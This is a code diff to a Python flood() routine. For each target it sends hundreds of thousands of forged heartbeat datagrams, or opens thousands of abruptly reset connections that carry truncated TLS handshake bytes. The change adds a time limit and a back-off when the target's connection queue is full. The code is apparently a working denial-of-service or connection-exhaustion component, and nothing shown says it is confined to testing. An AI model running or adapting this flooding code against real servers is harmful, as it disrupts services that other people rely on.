@@ -21,6 +21,7 @@ OTHER_USER = 65534
 ANSWER_TIME = 3  # seconds in which a server has answered
 CONNECT_TIME = 0.5  # seconds until a server whose queue is full is left alone
 FLOOD = 10_000
+FLOOD_TIME = 60  # seconds until a place that takes connections too slowly is left alone
 DATAGRAMS = 200_000
 HELD = 2_000
 
@@ -169,15 +170,17 @@ def flood(places):
             send_datagrams(place, itertools.islice(itertools.cycle(forged_heartbeats()), DATAGRAMS))
             continue
         count = 0
-        for number in range(FLOOD):
+        deadline = time.monotonic() + FLOOD_TIME
+        while count < FLOOD and time.monotonic() < deadline:
             stream = connect(place)
-            if not stream:
+            if not stream:  # the queue is full: a busy machine takes connections more slowly than they are opened
+                time.sleep(0.001)
                 continue
             count += 1
             with stream, contextlib.suppress(OSError):
                 if place[0] == "tcp":  # without the system's waiting time after it
                     stream.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
-                if number % 2:
+                if count % 2:
                     stream.send(b"\x16\x03\x01\x02\x00\x01")
         taken.append({"place": place, "taken": count})
     yield taken
